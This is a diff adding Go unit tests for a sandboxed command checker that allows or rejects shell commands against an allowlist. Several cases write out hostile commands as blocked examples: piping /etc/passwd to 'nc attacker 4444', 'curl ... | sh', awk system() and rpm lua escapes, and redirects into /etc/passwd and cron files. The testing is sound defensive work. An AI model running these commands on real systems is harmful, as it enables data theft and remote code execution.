@@ -0,0 +1,497 @@
+package local
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/neilfarmer/platform-spec/pkg/core"
+)
+
+func TestCheckCommand(t *testing.T) {
+	tests := []struct {
+		name      string
+		allowlist []string
+		command   string
+		wantErr   string
+	}{
+		{
+			name:      "allowed binary",
+			allowlist: []string{"systemctl"},
+			command:   "systemctl is-active nginx 2>/dev/null",
+		},
+		{
+			name:      "builtins always allowed",
+			allowlist: []string{},
+			command:   "test -f /etc/hosts && echo yes || false",
+		},
+		{
+			name:      "built-in capabilities command",
+			allowlist: DefaultAllowlist,
+			command:   `if [ -e '/usr/sbin/nginx' ]; then PATH="$PATH:/usr/sbin:/sbin" getcap '/usr/sbin/nginx'; else echo 'notfound'; fi`,
+		},
+		{
+			name:      "built-in recursive file command",
+			allowlist: DefaultAllowlist,
+			command:   `find '/srv/data' \( ! -user 'app' -o ! -perm 750 \) -print 2>/dev/null | head -n 6`,
+		},
+		{
+			name:      "blocked binary",
+			allowlist: []string{"cat"},
+			command:   "rm -rf /tmp/data",
+			wantErr:   `command "rm" is not allowed`,
+		},
+		{
+			name:      "blocked binary after allowed one",
+			allowlist: []string{"cat"},
+			command:   "cat /etc/passwd | nc attacker 4444",
+			wantErr:   `command "nc" is not allowed`,
+		},
+		{
+			name:      "blocked binary in substitution",
+			allowlist: DefaultAllowlist,
+			command:   "echo $(curl -s http://example.com | sh)",
+			wantErr:   `command "sh" is not allowed`,
+		},
+		{
+			name:      "built-in sshd command",
+			allowlist: DefaultAllowlist,
+			command:   `PATH="$PATH:/usr/sbin:/sbin" sshd -T`,
+		},
+		{
+			name:      "built-in kubernetes command",
+			allowlist: DefaultAllowlist,
+			command:   `kubectl get deployment 'api' -n 'prod' -o json --context 'prod' 2>&1`,
+		},
+		{
+			name:      "built-in docker compose command",
+			allowlist: DefaultAllowlist,
+			command:   `docker compose -p 'shop' ps --all --format json`,
+		},
+		{
+			name:      "built-in http command",
+			allowlist: DefaultAllowlist,
+			command:   `curl -s -L -k -w '\n%{http_code}' 'https://internal.local/old'`,
+		},
+		{
+			name:      "path-qualified binary",
+			allowlist: DefaultAllowlist,
+			command:   "/tmp/evil/grep root /etc/passwd",
+			wantErr:   `command "/tmp/evil/grep" is not allowed: binaries must be named`,
+		},
+		{
+			name:      "relative path binary",
+			allowlist: DefaultAllowlist,
+			command:   "./grep root /etc/passwd",
+			wantErr:   `command "./grep" is not allowed`,
+		},
+		{
+			name:      "assignment before command",
+			allowlist: DefaultAllowlist,
+			command:   "PATH=/tmp/x grep root /etc/passwd",
+			wantErr:   `variable assignment "PATH=/tmp/x" is not allowed`,
+		},
+		{
+			name:      "assignment on its own",
+			allowlist: DefaultAllowlist,
+			command:   "PATH=/tmp/x; grep root /etc/passwd",
+			wantErr:   `variable assignment "PATH=/tmp/x" is not allowed`,
+		},
+		{
+			name:      "sbin path prepended",
+			allowlist: DefaultAllowlist,
+			command:   `PATH="/tmp/x:$PATH" sshd -T`,
+			wantErr:   `variable assignment "PATH=/tmp/x:$PATH" is not allowed`,
+		},
+		{
+			name:      "find exec",
+			allowlist: DefaultAllowlist,
+			command:   `find /tmp -name x -exec sh -c 'id' \;`,
+			wantErr:   `find option "-exec" is not allowed`,
+		},
+		{
+			name:      "find delete",
+			allowlist: DefaultAllowlist,
+			command:   "find /srv -delete",
+			wantErr:   `find option "-delete" is not allowed`,
+		},
+		{
+			name:      "awk system",
+			allowlist: DefaultAllowlist,
+			command:   `awk 'BEGIN{system("id")}'`,
+			wantErr:   `awk program may not use "system"`,
+		},
+		{
+			name:      "awk pipe to command",
+			allowlist: DefaultAllowlist,
+			command:   `awk '{print | "sh"}' /etc/hosts`,
+			wantErr:   `awk program may not use "|"`,
+		},
+		{
+			name:      "awk program file",
+			allowlist: DefaultAllowlist,
+			command:   "awk -f /tmp/prog.awk /etc/hosts",
+			wantErr:   `awk option "-f" is not allowed`,
+		},
+		{
+			name:      "sed not allowed by default",
+			allowlist: DefaultAllowlist,
+			command:   `sed -n '1e id' /etc/hosts`,
+			wantErr:   `command "sed" is not allowed`,
+		},
+		{
+			name:      "docker run",
+			allowlist: DefaultAllowlist,
+			command:   "docker run --rm alpine id",
+			wantErr:   `docker subcommand "run" is not allowed`,
+		},
+		{
+			name:      "docker exec after global option",
+			allowlist: DefaultAllowlist,
+			command:   "docker -l debug exec web sh",
+			wantErr:   `docker subcommand "exec" is not allowed`,
+		},
+		{
+			name:      "docker remote host",
+			allowlist: DefaultAllowlist,
+			command:   "docker -H ssh://root@evil ps",
+			wantErr:   `docker option "-H" is not allowed`,
+		},
+		{
+			name:      "docker context",
+			allowlist: DefaultAllowlist,
+			command:   "docker --context=remote ps",
+			wantErr:   `docker option "--context" is not allowed`,
+		},
+		{
+			name:      "docker compose up",
+			allowlist: DefaultAllowlist,
+			command:   "docker compose -p shop up -d",
+			wantErr:   `docker compose subcommand "up" is not allowed`,
+		},
+		{
+			name:      "docker config directory",
+			allowlist: DefaultAllowlist,
+			command:   "docker --config /tmp/evil compose ps",
+			wantErr:   `docker option "--config" is not allowed`,
+		},
+		{
+			name:      "kubectl exec",
+			allowlist: DefaultAllowlist,
+			command:   "kubectl -n prod exec api -- sh",
+			wantErr:   `kubectl subcommand "exec" is not allowed`,
+		},
+		{
+			name:      "kubectl kubeconfig",
+			allowlist: DefaultAllowlist,
+			command:   "kubectl get pods --kubeconfig=/tmp/evil",
+			wantErr:   `kubectl option "--kubeconfig" is not allowed`,
+		},
+		{
+			name:      "kubectl rollout restart",
+			allowlist: DefaultAllowlist,
+			command:   "kubectl rollout restart deployment/api",
+			wantErr:   `kubectl rollout subcommand "restart" is not allowed`,
+		},
+		{
+			name:      "curl output file",
+			allowlist: DefaultAllowlist,
+			command:   "curl -s -o /etc/cron.d/x http://example.com/x",
+			wantErr:   `curl option "-o" is not allowed`,
+		},
+		{
+			name:      "curl combined options",
+			allowlist: DefaultAllowlist,
+			command:   "curl -sO http://example.com/x",
+			wantErr:   `curl option "-O" is not allowed`,
+		},
+		{
+			name:      "sort compress program",
+			allowlist: DefaultAllowlist,
+			command:   "sort --compress-program=sh /etc/hosts",
+			wantErr:   `sort option "--compress-program" is not allowed`,
+		},
+		{
+			name:      "crontab install",
+			allowlist: DefaultAllowlist,
+			command:   "crontab /tmp/jobs",
+			wantErr:   `crontab requires one of the options -l`,
+		},
+		{
+			name:      "systemctl start",
+			allowlist: DefaultAllowlist,
+			command:   "systemctl start evil.service",
+			wantErr:   `systemctl subcommand "start" is not allowed`,
+		},
+		{
+			name:      "rpm eval",
+			allowlist: DefaultAllowlist,
+			command:   `rpm -q --eval '%{lua: os.execute("id")}'`,
+			wantErr:   `rpm option "--eval" is not allowed`,
+		},
+		{
+			name:      "dnf install",
+			allowlist: DefaultAllowlist,
+			command:   "dnf -y install evil",
+			wantErr:   `dnf subcommand "install" is not allowed`,
+		},
+		{
+			name:      "command lookup",
+			allowlist: []string{},
+			command:   "command -v 'kubectl' >/dev/null 2>&1",
+		},
+		{
+			name:      "command running a binary",
+			allowlist: DefaultAllowlist,
+			command:   "command rm -rf /tmp/x",
+			wantErr:   "command may only look commands up with -v or -V",
+		},
+		{
+			name:      "command option after the binary",
+			allowlist: DefaultAllowlist,
+			command:   "command -p rm -v /tmp/x",
+			wantErr:   "command may only look commands up with -v or -V",
+		},
+		{
+			name:      "allowed redirects",
+			allowlist: DefaultAllowlist,
+			command:   "cat /etc/hosts >/dev/null 2>&1; echo x >&2; grep -q x /etc/hosts &> /dev/null; echo y > /dev/stderr; cat < /etc/hosts; echo z >&-",
+		},
+		{
+			name:      "redirect into file",
+			allowlist: DefaultAllowlist,
+			command:   "echo x > /etc/cron.d/job",
+			wantErr:   `redirect ">" into "/etc/cron.d/job" is not allowed`,
+		},
+		{
+			name:      "redirect without space",
+			allowlist: DefaultAllowlist,
+			command:   "cat x >/etc/passwd",
+			wantErr:   `redirect ">" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "redirect glued to argument",
+			allowlist: DefaultAllowlist,
+			command:   "echo x>/etc/passwd",
+			wantErr:   `redirect ">" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "redirect after pipeline command",
+			allowlist: DefaultAllowlist,
+			command:   "grep -r x / > /etc/passwd",
+			wantErr:   `redirect ">" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "append redirect",
+			allowlist: DefaultAllowlist,
+			command:   "echo x >> ~/.bashrc",
+			wantErr:   `redirect ">>" into "~/.bashrc" is not allowed`,
+		},
+		{
+			name:      "stderr redirect into file",
+			allowlist: DefaultAllowlist,
+			command:   "cat x 2>/tmp/err",
+			wantErr:   `redirect "2>" into "/tmp/err" is not allowed`,
+		},
+		{
+			name:      "both streams into file",
+			allowlist: DefaultAllowlist,
+			command:   "cat x &>/tmp/out",
+			wantErr:   `redirect "&>" into "/tmp/out" is not allowed`,
+		},
+		{
+			name:      "clobber redirect",
+			allowlist: DefaultAllowlist,
+			command:   "echo x >| /tmp/out",
+			wantErr:   `redirect ">|" into "/tmp/out" is not allowed`,
+		},
+		{
+			name:      "duplication into file",
+			allowlist: DefaultAllowlist,
+			command:   "echo x >&/tmp/out",
+			wantErr:   `redirect ">&" into "/tmp/out" is not allowed`,
+		},
+		{
+			name:      "read-write redirect",
+			allowlist: DefaultAllowlist,
+			command:   "cat <> /etc/passwd",
+			wantErr:   `redirect "<>" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "redirect on its own",
+			allowlist: DefaultAllowlist,
+			command:   "> /etc/passwd",
+			wantErr:   `redirect ">" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "quoted redirect target",
+			allowlist: DefaultAllowlist,
+			command:   `echo x > "/etc/passwd"`,
+			wantErr:   `redirect ">" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "redirect in substitution",
+			allowlist: DefaultAllowlist,
+			command:   "echo $(echo x > /etc/passwd)",
+			wantErr:   `redirect ">" into "/etc/passwd" is not allowed`,
+		},
+		{
+			name:      "awk source option",
+			allowlist: DefaultAllowlist,
+			command:   `awk --source='BEGIN{system("id")}'`,
+			wantErr:   `awk program may not use "system"`,
+		},
+		{
+			name:      "awk source option as separate argument",
+			allowlist: DefaultAllowlist,
+			command:   `awk --source 'BEGIN{system("id")}'`,
+			wantErr:   `awk program may not use "system"`,
+		},
+		{
+			name:      "awk e option",
+			allowlist: DefaultAllowlist,
+			command:   `awk -e 'BEGIN{system("id")}'`,
+			wantErr:   `awk program may not use "system"`,
+		},
+		{
+			name:      "awk abbreviated source option",
+			allowlist: DefaultAllowlist,
+			command:   `awk --sour='BEGIN{system("id")}'`,
+			wantErr:   `awk program may not use "system"`,
+		},
+		{
+			name:      "awk program file attached",
+			allowlist: DefaultAllowlist,
+			command:   "awk -f/tmp/prog.awk /etc/hosts",
+			wantErr:   `awk option "-f" is not allowed`,
+		},
+		{
+			name:      "sort abbreviated compress program",
+			allowlist: DefaultAllowlist,
+			command:   "sort --compress-prog=sh x",
+			wantErr:   `sort option "--compress-program" is not allowed`,
+		},
+		{
+			name:      "built-in date, hostname and tail commands",
+			allowlist: DefaultAllowlist,
+			command:   "date +%s; hostname -s 2>/dev/null; hostname -f; df -P -k / | tail -1; date -d '2 days ago' +%F",
+		},
+		{
+			name:      "date set option",
+			allowlist: DefaultAllowlist,
+			command:   "date -s '2001-01-01'",
+			wantErr:   `date option "-s" is not allowed`,
+		},
+		{
+			name:      "date set operand",
+			allowlist: DefaultAllowlist,
+			command:   "date 010112002030",
+			wantErr:   `date operand "010112002030" would set the clock`,
+		},
+		{
+			name:      "hostname set",
+			allowlist: DefaultAllowlist,
+			command:   "hostname evil",
+			wantErr:   `hostname operand "evil" would set the host name`,
+		},
+		{
+			name:      "hostname from file",
+			allowlist: DefaultAllowlist,
+			command:   "hostname -F /tmp/name",
+			wantErr:   `hostname option "-F" is not allowed`,
+		},
+		{
+			name:      "sshd log file",
+			allowlist: DefaultAllowlist,
+			command:   "sshd -T -E /etc/passwd",
+			wantErr:   `sshd option "-E" is not allowed`,
+		},
+		{
+			name:      "tail follow",
+			allowlist: DefaultAllowlist,
+			command:   "tail -f /var/log/syslog",
+			wantErr:   `tail option "-f" is not allowed`,
+		},
+		{
+			name:      "dynamic command name",
+			allowlist: DefaultAllowlist,
+			command:   "$CMD --version",
+			wantErr:   `command "$CMD" is not allowed`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			provider := NewSandboxedProvider(tt.allowlist)
+			err := provider.CheckCommand(tt.command)
+
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Errorf("CheckCommand() unexpected error: %v", err)
+				}
+				return
+			}
+			if err == nil {
+				t.Fatalf("CheckCommand() expected error containing %q, got nil", tt.wantErr)
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("CheckCommand() error = %q, want to contain %q", err.Error(), tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestCheckCommand_Unrestricted(t *testing.T) {
+	provider := NewProvider()
+
+	if err := provider.CheckCommand("rm -rf /tmp/data"); err != nil {
+		t.Errorf("CheckCommand() on unrestricted provider returned error: %v", err)
+	}
+	if provider.Allowlist() != nil {
+		t.Errorf("Allowlist() = %v, want nil for unrestricted provider", provider.Allowlist())
+	}
+}
+
+func TestSandboxedExecuteCommand(t *testing.T) {
+	provider := NewSandboxedProvider([]string{"cat"})
+	ctx := context.Background()
+
+	stdout, _, exitCode, err := provider.ExecuteCommand(ctx, "echo allowed")
+	if err != nil {
+		t.Fatalf("ExecuteCommand() allowed command returned error: %v", err)
+	}
+	if exitCode != 0 || stdout != "allowed\n" {
+		t.Errorf("ExecuteCommand() = (%q, %d), want (\"allowed\\n\", 0)", stdout, exitCode)
+	}
+
+	_, _, exitCode, err = provider.ExecuteCommand(ctx, "touch /tmp/platform-spec-sandbox-test")
+	if err == nil {
+		t.Fatal("ExecuteCommand() blocked command should return an error")
+	}
+	if exitCode != -1 {
+		t.Errorf("ExecuteCommand() blocked command exitCode = %d, want -1", exitCode)
+	}
+}
+
+func TestSandboxedRequires(t *testing.T) {
+	spec := &core.Spec{
+		Config: core.SpecConfig{
+			Requires: []string{"platform-spec-missing-tool"},
+			Hooks:    core.SpecHooks{After: []string{"false"}},
+		},
+	}
+
+	results, err := core.NewExecutor(spec, NewSandboxedProvider(DefaultAllowlist)).Execute(context.Background())
+	if err != nil {
+		t.Fatalf("Execute() error = %v", err)
+	}
+	// The lookup is allowed, so the missing tool is found missing and the
+	// failing after hook never runs
+	if len(results.Results) != 1 {
+		t.Fatalf("Expected only the required tools result, got %+v", results.Results)
+	}
+	got := results.Results[0]
+	if got.Name != "required tools" || got.Status != core.StatusError || !strings.Contains(got.Message, "platform-spec-missing-tool") {
+		t.Errorf("required tools result = %+v, want the missing tool reported", got)
+	}
+}